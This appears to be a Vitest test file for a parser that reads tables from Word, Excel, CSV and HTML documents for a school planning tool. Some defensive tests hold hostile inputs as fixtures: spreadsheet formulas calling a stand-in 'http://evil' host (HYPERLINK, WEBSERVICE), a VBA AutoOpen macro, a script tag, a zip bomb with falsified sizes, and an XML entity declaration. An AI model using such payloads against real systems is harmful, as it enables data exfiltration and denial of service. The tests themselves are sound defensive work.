import { strToU8, unzipSync, zipSync } from 'fflate'
import readXlsxFile from 'read-excel-file/node'
import { describe, expect, test } from 'vitest'
import { DOCUMENT_LIMITS } from '../../../domain/roadmap/document.ts'
import { Refusal } from '../../../functions/errors.ts'
import { readDocument, type RawDocument } from '../../../functions/roadmap/readDocument.ts'
import { docx, pasted, textFile, xlsx } from './documents.ts'

/** Texts of the tables, a row in a line. */
function texts(document: RawDocument): string[][][] {
  return readDocument(document).map(({ rows }) => rows.map((row) => row.map(({ text }) => text)))
}

function refusal(document: RawDocument): string {
  try {
    readDocument(document)
  } catch (error) {
    if (error instanceof Refusal) return error.code
    throw error
  }
  return 'read'
}

function bytesOf(document: RawDocument): Uint8Array {
  if (document.is !== 'file') throw new Error('not a file')
  return document.bytes
}

/** A document with parts of it put in another's place. */
function changed(document: RawDocument, parts: Readonly<Record<string, string>>): RawDocument {
  const files = unzipSync(bytesOf(document))
  const news = Object.entries(parts).map(([path, text]) => [path, strToU8(text)] as const)
  return { is: 'file', bytes: zipSync({ ...files, ...Object.fromEntries(news) }) }
}

/** Parts of a Word document's XML. */
const cell = (inside: string) => `<w:tc><w:p>${inside}</w:p></w:tc>`
const run = (text: string) => `<w:r><w:t xml:space="preserve">${text}</w:t></w:r>`

const whole: readonly (readonly string[])[] = [
  ['Мероприятие', 'Срок'],
  ['Педсовет', '10.11.2021'],
]

describe('a Word document', () => {
  test('gives each table with the paragraphs before it', async () => {
    const tables = readDocument(await docx('План', 'Риск', whole, 'Другой риск', whole))
    expect(tables.map(({ heading }) => heading)).toEqual([['План', 'Риск'], ['Другой риск']])
  })

  test('repeats merged cells, and says that they are', async () => {
    const [table] = readDocument(
      await docx([
        ['Задача', 'Мероприятие', 'Срок'],
        [{ text: 'Одна', down: 'start' }, 'а', '1'],
        [{ text: '', down: 'on' }, 'б', '2'],
        [{ text: 'Через всё', span: 3 }],
      ]),
    )
    expect(table?.rows[2]?.[0]).toEqual({ text: 'Одна', merged: 'above' })
    expect(table?.rows[3]?.map(({ merged }) => merged)).toEqual([undefined, 'left', 'left'])
  })

  test('keeps paragraphs and soft breaks of a cell as lines', async () => {
    const lines = { text: '', paragraphs: ['директор', 'зам. директора\nпо УВР'] }
    expect(
      texts(
        await docx([
          ['Ответственный', 'Срок'],
          [lines, '1'],
        ]),
      )[0]?.[1]?.[0],
    ).toBe('директор\nзам. директора\nпо УВР')
  })

  test('leaves out deleted text, and takes in inserted, nested and wrapped text', async () => {
    const nested = `<w:tc><w:p/><w:tbl><w:tr>${cell(run('внутри'))}</w:tr></w:tbl></w:tc>`
    const body = `<w:tbl><w:tr>
      ${cell(`<w:del><w:r><w:delText>было</w:delText></w:r></w:del><w:ins>${run('стало')}</w:ins>`)}
      <w:sdt><w:sdtContent>${cell(run('в поле &amp; рядом'))}</w:sdtContent></w:sdt>
      ${nested}</w:tr></w:tbl>`
    const document = `<w:document xmlns:w="w"><w:body>${body}</w:body></w:document>`
    const read = texts(changed(await docx(whole), { 'word/document.xml': document }))
    expect(read).toEqual([[['стало', 'в поле & рядом', 'внутри']]])
  })

  test('with macros is only its text', async () => {
    const withMacro = changed(await docx(whole), { 'word/vbaProject.bin': 'Sub AutoOpen()' })
    expect(texts(withMacro)).toEqual([whole])
  })
})

describe('an Excel workbook', () => {
  test('has the values that another reader finds in it', async () => {
    const document = await xlsx([
      ['Мероприятие', 'Срок', 'План', 'Доля'],
      ['Педсовет', new Date('2021-11-10T00:00:00Z'), 12.5, { value: 0.365, format: '0.0%' }],
    ])
    const [sheet] = await readXlsxFile(Buffer.from(bytesOf(document)))
    const [, oracle] = sheet?.data ?? []
    expect(oracle).toEqual(['Педсовет', new Date('2021-11-10T00:00:00Z'), 12.5, 0.365])
    const [table] = readDocument(document)
    expect(table?.rows[1]).toEqual([
      { text: 'Педсовет' },
      { text: '10.11.2021', value: 44510 },
      { text: '12,5', value: 12.5 },
      { text: '36,5 %', value: 0.365 },
    ])
  })

  test('never runs a formula: its last value counts, and text that looks like one is text', async () => {
    const document = await xlsx([
      ['Мероприятие', 'Срок'],
      ['=HYPERLINK("http://evil")', 'x'],
    ])
    const sheet = new TextDecoder().decode(unzipSync(bytesOf(document))['xl/worksheets/sheet1.xml'])
    const withFormula = sheet.replace(
      /<c r="B2"[^]*?<\/c>/,
      '<c r="B2" t="str"><f>WEBSERVICE("http://evil")</f><v>10.11.2021</v></c>',
    )
    expect(withFormula).not.toBe(sheet)
    expect(texts(changed(document, { 'xl/worksheets/sheet1.xml': withFormula }))[0]?.[1]).toEqual([
      '=HYPERLINK("http://evil")',
      '10.11.2021',
    ])
  })

  test('with a cell far away is refused; one that is only formatted there is read', async () => {
    const document = await xlsx(whole)
    const sheet = new TextDecoder().decode(unzipSync(bytesOf(document))['xl/worksheets/sheet1.xml'])
    const far = (cell: string) =>
      changed(document, {
        'xl/worksheets/sheet1.xml': sheet.replace(
          '</sheetData>',
          `<row r="1048576">${cell}</row></sheetData>`,
        ),
      })
    expect(refusal(far('<c r="XFD1048576"><v>1</v></c>'))).toBe('document.rows')
    expect(texts(far('<c r="XFD1048576" s="1"/>'))).toEqual([whole])
  })
})

describe('text', () => {
  test.each([
    [
      'semicolons in windows-1251',
      textFile('Мероприятие;Срок\r\nПедсовет;10.11.2021', 'windows-1251'),
    ],
    [
      'semicolons in UTF-8 with its mark',
      textFile('\ufeffМероприятие;Срок\nПедсовет;10.11.2021\n'),
    ],
    ['tabs, pasted', pasted('Мероприятие\tСрок\nПедсовет\t10.11.2021')],
    ['commas', textFile('"Мероприятие",Срок\n"Педсовет",10.11.2021')],
    [
      'HTML',
      pasted('<table><tr><td>Мероприятие<td>Срок</tr><tr><th>Педсовет</th><td>10.11.2021</table>'),
    ],
  ])('%s', (_, document) => {
    expect(texts(document)).toEqual([whole])
  })

  test('in UTF-16, as Excel writes «Текст Юникод»', () => {
    const text = '\ufeffМероприятие\tСрок\nПедсовет\t10.11.2021'
    const bytes = new Uint8Array(new Uint16Array(Array.from(text, (c) => c.charCodeAt(0))).buffer)
    expect(texts({ is: 'file', bytes })).toEqual([whole])
  })

  test('keeps separators and quotes within quotes', () => {
    const document = textFile('а;б\n"Семинар ""Урок""; итоги";"две\nстроки"')
    expect(texts(document)[0]?.[1]).toEqual(['Семинар "Урок"; итоги', 'две\nстроки'])
  })

  test('of a page: scripts and styles are no text', () => {
    const html =
      '<style>td{}</style><table><tr><td>а<script>alert(1)</script></td><td>б</td></tr></table>'
    expect(texts(pasted(html))).toEqual([[['а', 'б']]])
  })
})

describe('what is refused, and its twin that is read', () => {
  const table = 'Мероприятие;Срок\nПедсовет;10.11.2021'

  test('PDF, old formats, pictures, other archives', async () => {
    expect(refusal(textFile('%PDF-1.7 …'))).toBe('document.pdf')
    const old = Uint8Array.of(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1)
    expect(refusal({ is: 'file', bytes: old })).toBe('document.old')
    expect(refusal({ is: 'file', bytes: Uint8Array.of(0x89, 0x50, 0, 0, 0) })).toBe('document.kind')
    const other = zipSync({ 'content.xml': strToU8('<x/>') })
    expect(refusal({ is: 'file', bytes: other })).toBe('document.kind')
    expect(refusal(textFile(table))).toBe('read')
  })

  test('an archive that unpacks to more than it may, or lies about it', async () => {
    const big = '<w:p>'.padEnd(DOCUMENT_LIMITS.unpacked + 1, ' ')
    const bomb = changed(await docx(whole), { 'word/document.xml': big })
    expect(bytesOf(bomb).length).toBeLessThan(200_000)
    expect(refusal(bomb)).toBe('document.unpacked')
    const bytes = Uint8Array.from(bytesOf(bomb))
    // The size that the archive's list tells, of each entry, is made small.
    for (let at = 0; at < bytes.length - 46; at++) {
      const isEntry = bytes[at] === 0x50 && bytes[at + 1] === 0x4b && bytes[at + 2] === 1
      if (isEntry) bytes.fill(0, at + 26, at + 28)
    }
    // No more is unpacked than it says: of this document some blanks.
    expect(refusal({ is: 'file', bytes })).toBe('document.noTable')
    expect(refusal(await docx(whole))).toBe('read')
  })

  test('entities that a document declares for itself', async () => {
    const laughs = `<!DOCTYPE x [<!ENTITY a "aaaaaaaa">]><w:document><w:body/></w:document>`
    expect(refusal(changed(await docx(whole), { 'word/document.xml': laughs }))).toBe(
      'document.damaged',
    )
  })

  test('a damaged file, one without a table', async () => {
    expect(refusal({ is: 'file', bytes: bytesOf(await docx(whole)).slice(0, 900) })).toBe(
      'document.damaged',
    )
    expect(refusal(await docx('Только текст'))).toBe('document.noTable')
    expect(refusal(textFile('одна строка'))).toBe('document.noTable')
  })

  test('too many rows and columns; 10,000 rows are read', () => {
    const line = 'Педсовет;10.11.2021\n'
    const rows = (count: number) => textFile('Мероприятие;Срок\n' + line.repeat(count))
    expect(readDocument(rows(DOCUMENT_LIMITS.rows))[0]?.rows.length).toBe(DOCUMENT_LIMITS.rows + 1)
    expect(refusal(rows(DOCUMENT_LIMITS.rows + 1))).toBe('document.rows')
    expect(refusal(textFile('а;'.repeat(DOCUMENT_LIMITS.columns + 1)))).toBe('document.rows')
    const spans = '<table><tr><td colspan=9999>а</td></tr></table>'.repeat(2)
    expect(refusal(pasted(spans))).toBe('read')
  })

  test('10 MB', () => {
    const bytes = new Uint8Array(DOCUMENT_LIMITS.bytes + 1).fill(0x3b)
    expect(refusal({ is: 'file', bytes })).toBe('document.size')
  })
})
